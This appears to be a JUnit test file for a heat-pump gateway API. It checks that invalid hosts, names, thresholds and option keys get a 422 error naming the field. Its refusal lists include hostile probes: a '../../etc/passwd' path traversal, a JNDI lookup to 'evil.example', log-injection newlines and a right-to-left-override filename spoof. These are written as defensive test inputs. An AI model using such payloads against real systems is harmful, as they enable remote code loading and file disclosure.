package gateway.web.internal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * The probes of issue 14 that got a 500 (or were accepted) before the API had input limits: every one is now a 422
 * that names the field, and the state behind the API is unchanged.
 */
class InputLimitsApiTest extends ApiTestBase {

    DefinitionApiTest.Alerts alerts;
    String device;

    @BeforeEach
    void services() throws Exception {
        alerts = new DefinitionApiTest.Alerts();
        servlet.setJobs(new DefinitionApiTest.Jobs());
        servlet.setAlerts(alerts);
        device = createDevice(CONTRACT_BODY);
    }

    /** A body with a JSON string built by Jackson, so any character (NUL, a lone surrogate) is escaped correctly. */
    static String device(String host, String name) {
        ObjectNode body = JsonNodeFactory.instance.objectNode();
        body.put("manufacturer", "acme").put("model", "aw10");
        if (name != null) {
            body.put("name", name);
        }
        body.putObject("connection_config").put("host", host);
        return escaped(body);
    }

    /** JSON with every non-ASCII character escaped, so a lone surrogate reaches the server as written. */
    static String escaped(ObjectNode body) {
        try {
            return ESCAPING.writeValueAsString(body);
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    void assertRefused(Response r, String field) {
        assertEquals(422, r.status(), r.body());
        assertEquals("application/problem+json", r.contentType());
        assertTrue(r.json().get("errors").toString().contains(field + ":"), r.body());
    }

    static final String LONG_HOST = "h".repeat(63) + "." + "a".repeat(63) + "." + "b".repeat(63) + "."
            + "c".repeat(63) + "." + "d".repeat(39); // 295 characters, every label legal

    @Test
    void aHostOf295CharactersIsRefusedOnCreateUpdateAndTest() throws Exception {
        assertEquals(295, LONG_HOST.length());
        assertRefused(send("POST", "/api/heatpumps", "ada", device(LONG_HOST, null)), "connection_config.host");
        assertRefused(send("POST", "/api/heatpumps/test", "ada", device(LONG_HOST, null)),
                "connection_config.host");
        assertRefused(send("PUT", "/api/heatpumps/" + device, "ada",
                "{\"connection_config\":{\"host\":\"" + LONG_HOST + "\"}}"), "connection_config.host");
        assertEquals(1, manager.devices.size());
        assertEquals("192.168.1.50", manager.devices.get(device).connection().host());
    }

    @Test
    void aHostOf253CharactersIsAccepted() throws Exception {
        String host = "a".repeat(63) + "." + "b".repeat(63) + "." + "c".repeat(63) + "." + "d".repeat(61);
        assertEquals(253, host.length());
        assertEquals(201, send("POST", "/api/heatpumps", "ada", device(host, null)).status());
    }

    @Test
    void hostsThatAreNeitherANameNorAnAddressAreRefused() throws Exception {
        for (String host : List.of("heat\u0000pump", "../../etc/passwd", "${jndi:ldap://evil.example/a}",
                "heatpump\u202E.local", "heat\u200Fpump", "999.1.1.1", "192.168.1.20:502", "-bad.local",
                "two words", "http://heatpump.local", "a..b", "[::1", "\uD800")) {
            assertRefused(send("POST", "/api/heatpumps", "ada", device(host, null)), "connection_config.host");
            assertRefused(send("PUT", "/api/heatpumps/" + device, "ada",
                    "{\"connection_config\":" + escaped(JsonNodeFactory.instance.objectNode().put("host", host))
                            + "}"),
                    "connection_config.host");
        }
        assertEquals(1, manager.devices.size(), "nothing was created");
        assertEquals("192.168.1.50", manager.devices.get(device).connection().host());
    }

    @Test
    void hostNamesAndAddressLiteralsAreAccepted() throws Exception {
        for (String host : List.of("heatpump.local", "192.168.1.20", "fe80::1", "[2001:db8::7]", "fe80::1%eth0",
                "WP-Keller_1", "localhost")) {
            Response r = send("POST", "/api/heatpumps/test", "ada", device(host, null));
            assertTrue(r.status() != 422, host + ": " + r.body());
        }
    }

    @Test
    void namesRefuseControlCharactersLoneSurrogatesAndOverLength() throws Exception {
        for (String name : List.of("Keller\u0000", "Keller\nInjected log line", "\uDC00Keller", "Keller\uD83D",
                "x\u202Egnp.exe", "n".repeat(201))) {
            assertRefused(send("POST", "/api/heatpumps", "ada", device("heatpump.local", name)), "name");
        }
        assertEquals(201, send("POST", "/api/heatpumps", "ada", device("heatpump.local", "n".repeat(200))).status());
        assertEquals(201, send("POST", "/api/heatpumps", "ada",
                device("heatpump2.local", "Wärmepumpe \uD83D\uDD25 \u05D1\u05D9\u05EA")).status(), "emoji, Hebrew");
    }

    static final com.fasterxml.jackson.databind.ObjectMapper ESCAPING = com.fasterxml.jackson.databind.json.JsonMapper
            .builder().enable(com.fasterxml.jackson.core.json.JsonWriteFeature.ESCAPE_NON_ASCII).build();

    String alert(String name, String threshold) {
        return "{\"heatpump_id\":\"" + device + "\",\"name\":" + name + ",\"type\":\"threshold\","
                + "\"sensor\":\"temp_outdoor\",\"condition\":\">\",\"threshold\":" + threshold + "}";
    }

    @Test
    void alertNamesOver200CharactersAndUnboundedThresholdsAreRefused() throws Exception {
        assertRefused(send("POST", "/api/alerts", "ada", alert("\"" + "a".repeat(201) + "\"", "5")), "name");
        for (String threshold : List.of("\"NaN\"", "\"Infinity\"", "\"-Infinity\"", "\"1e308\"", "1e308", "1e400",
                "-1e16", "\"1e10\"")) {
            assertRefused(send("POST", "/api/alerts", "ada", alert("\"Cold\"", threshold)), "threshold");
        }
        assertRefused(send("POST", "/api/alerts", "ada",
                alert("\"Cold\"", "5").replace("}", ",\"hysteresis\":1e300}")), "hysteresis");
        assertTrue(alerts.list(null).isEmpty(), "nothing was saved");
        Response ok = send("POST", "/api/alerts", "ada", alert("\"" + "a".repeat(200) + "\"", "-15.5"));
        assertEquals(201, ok.status(), ok.body());
    }

    @Test
    void theProblemNamesTheFirstField() throws Exception {
        Response r = send("POST", "/api/heatpumps", "ada", device(LONG_HOST, "n".repeat(300)));
        assertEquals(422, r.status());
        assertNotNull(r.json().get("field"));
        String errors = r.json().get("errors").toString();
        assertTrue(errors.contains("name: at most 200 characters (got 300)"), errors);
        assertTrue(errors.contains("connection_config.host: at most 253 characters (got 295)"), errors);
    }

    @Test
    void optionKeysAndValuesAndNestedArraysAreChecked() throws Exception {
        assertRefused(send("POST", "/api/heatpumps", "ada", "{\"manufacturer\":\"acme\",\"model\":\"aw10\","
                + "\"connection_config\":{\"host\":\"h\",\"options\":{\"" + "k".repeat(65) + "\":\"v\"}}}"),
                "connection_config.options." + "k".repeat(65));
        assertRefused(send("POST", "/api/heatpumps", "ada", "{\"manufacturer\":\"acme\",\"model\":\"aw10\","
                + "\"connection_config\":{\"host\":\"h\"},\"device_config\":{\"circuits\":[\"A\",\"A\\u0007\"]}}"),
                "device_config.circuits[1]");
        String deep = "[".repeat(40) + "]".repeat(40);
        Response r = send("POST", "/api/dashboards", "ada", "{\"name\":\"d\",\"config\":{\"widgets\":" + deep + "}}");
        assertTrue(r.status() == 422 || r.status() == 400, r.status() + " " + r.body());
    }

    @Test
    void theUnitRulesAreThoseTheReadmeDocuments() {
        assertNull(InputLimits.hostProblem("heatpump.local"));
        assertNull(InputLimits.hostProblem("10.0.0.7"));
        assertNull(InputLimits.hostProblem("::1"));
        assertNotNull(InputLimits.hostProblem("256.0.0.1"));
        assertNotNull(InputLimits.hostProblem("a".repeat(64) + ".local"), "a label has at most 63 characters");
        assertEquals(new InputLimits.Limit(253, InputLimits.Policy.HOST), InputLimits.FIELDS.get("connection_config.host"));
        assertEquals(200, InputLimits.FIELDS.get("name").max());
        assertNull(InputLimits.numberProblem(-1e9, InputLimits.MAX_SENSOR_VALUE));
        assertNotNull(InputLimits.numberProblem(Double.NaN, InputLimits.MAX_MAGNITUDE));
    }

    @Test
    void aLengthTheStoreRefusesIsA422NamingTheApiField() {
        ApiException problem = servlet.toProblem(new gateway.core.api.ValueTooLongException("endpoint_key", null),
                null);
        assertEquals(422, problem.status());
        assertEquals("connection_config.host", problem.toProblem("/api/heatpumps").extra().get("field"));
    }

    /** The maxima appear on request records only, inside the nullable anyOf of an optional field. */
    @Test
    void theOpenApiDocumentShowsTheMaximaOfRequestFields() throws Exception {
        JsonNode schemas = get("/api/openapi.json", "alice").json().get("components").get("schemas");
        assertEquals(253, maxLength(schemas, "ConnectionInput", "host"));
        assertEquals(200, maxLength(schemas, "HeatpumpInput", "name"));
        assertEquals(1024, maxLength(schemas, "Credentials", "password"));
    }

    static int maxLength(JsonNode schemas, String record, String property) {
        return schemas.get(record).get("properties").get(property).get("anyOf").get(0).get("maxLength").asInt();
    }
}
